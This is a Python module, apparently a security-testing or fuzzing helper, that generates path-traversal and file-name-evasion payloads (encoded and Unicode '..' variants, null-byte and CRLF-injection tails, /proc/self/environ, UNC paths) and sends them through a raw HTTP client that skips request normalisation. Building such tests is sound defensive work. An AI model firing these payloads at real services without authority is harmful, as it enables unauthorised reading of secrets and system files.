"""Ways to ask a service for a file that it should not give, and a client that sends them as they are."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote, urlsplit

UP = (
    *("..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "%25252e%25252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae"),
    *("..;", "..%20", "..%00", "...", "....//..", "%u002e%u002e", "．．", "․․"),
    *("%ef%bc%8e%ef%bc%8e", "%e2%80%a4%e2%80%a4"),
)  # fmt: skip
BETWEEN = (
    *("/", "//", "/./", "\\", "%2f", "%2F", "%252f", "%5c", "%255c", "%c0%af", "%e0%80%af", "∕", "／", "%e2%88%95"),
    *("%ef%bc%8f", "%u2215", ";/"),
)  # fmt: skip
TAILS = (
    *("", "/", ".", "..", "%20", "%09", "%0a", "%0d%0aX-A: b", "%00", "%00.png", "%2500.png", "::$DATA", ":$I30:.png"),
    *("#.png", "?.png", "%3f.png", ";.png", "\x01", "%7f", "%ff", "~1", "/.", "/..", "%e2%80%ae"),
)  # fmt: skip
DEVICES = ("/dev/stdin", "/dev/tty", "/proc/self/environ", "/proc/self/fd/0", "CON", "NUL.png", "COM1", "aux.md")
BEFORE = (
    "",
    "/",
    "//",
    "%2f",
    "\\\\127.0.0.1\\share\\",
    "//127.0.0.1/",
    "file:///",
    "C:\\",
    "C:/",
    "%43%3a%5c",
    "~",
    "~root/",
)


def ways_out(targets: tuple[str, ...]) -> Iterator[str]:
    """Paths that climb out of a folder to each target, as they stand in a request line."""
    for up, between, depth, target, tail in product(UP, BETWEEN, (1, 2, 3, 9), targets, TAILS):
        yield between.join([*[up] * depth, target.replace("/", between)]) + tail


def ways_in(names: tuple[str, ...]) -> Iterator[str]:
    """Forms of names, below a folder or absolute, that a file system or a server may take for them."""
    for before, name, tail in product(BEFORE, names, TAILS):
        wide = "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" and char != "/" else char for char in name)
        forms = (name, name.upper(), name.title(), quote(name, safe=""), "".join(f"%{b:02x}" for b in name.encode()))
        for form in (*forms, wide, name.replace("/", "\\"), name.replace("/", "//"), f"./{name}", f"x/../{name}"):
            yield before + form + tail


class Raw:
    """A connection that sends a request line as it is given, which clients would put in order first."""

    def __init__(self, address: str) -> None:
        parts = urlsplit(address)
        self._place = parts.hostname or "", parts.port or 0
        self._file = None

    def close(self) -> None:
        if self._file:
            self._file.close()
            self._socket.close()
            self._file = None

    def ask(self, target: str, method: str = "GET", body: bytes = b"") -> tuple[int, bytes]:
        """The status of the answer, and all its bytes."""
        for _ in range(2):  # the server may have closed the connection meanwhile
            try:
                return self._ask(target, method, body)
            except (ConnectionError, ValueError):
                self.close()
        return 0, b""

    def _ask(self, target: str, method: str, body: bytes) -> tuple[int, bytes]:
        if self._file is None:
            self._socket = socket.create_connection(self._place, timeout=20)
            self._file = self._socket.makefile("rb")
        head = f"{method} {target} HTTP/1.1\r\nHost: {self._place[0]}:{self._place[1]}\r\n"
        head += "Accept: text/html, application/json\r\n"
        more = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body else ""
        self._socket.sendall(f"{head}{more}\r\n".encode() + body)
        said = [self._file.readline()]
        status = int(said[0].split()[1]) if said[0] else 0
        length, chunked, closes = 0, False, not status
        while (line := self._file.readline()) not in (b"\r\n", b""):
            said.append(line)
            name, _, value = line.lower().partition(b":")
            length = int(value) if name == b"content-length" else length
            chunked = chunked or (name == b"transfer-encoding" and b"chunked" in value)
            closes = closes or (name == b"connection" and b"close" in value)
        if not status:
            raise ConnectionError
        while chunked and (size := int(self._file.readline(), 16)):
            said.append(self._file.read(size + 2))
        said.append(self._file.readline() if chunked else self._file.read(length))
        if closes:
            self.close()
        return status, b"".join(said)
